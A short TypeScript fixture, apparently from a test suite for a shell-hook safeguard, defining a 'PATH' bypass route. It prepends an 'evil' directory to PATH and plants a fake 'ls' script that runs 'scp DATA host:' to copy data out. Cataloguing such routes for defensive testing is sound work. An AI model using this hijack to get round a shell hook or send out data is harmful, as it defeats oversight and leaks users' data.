import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'PATH',
  source: 'attempts to get round a hook of the shell',
  keys: ['PATH=$HOME/evil:$PATH\r', 'ls\r'],
  files: { 'evil/ls': '#!/bin/sh\nscp DATA host:\n' },
};
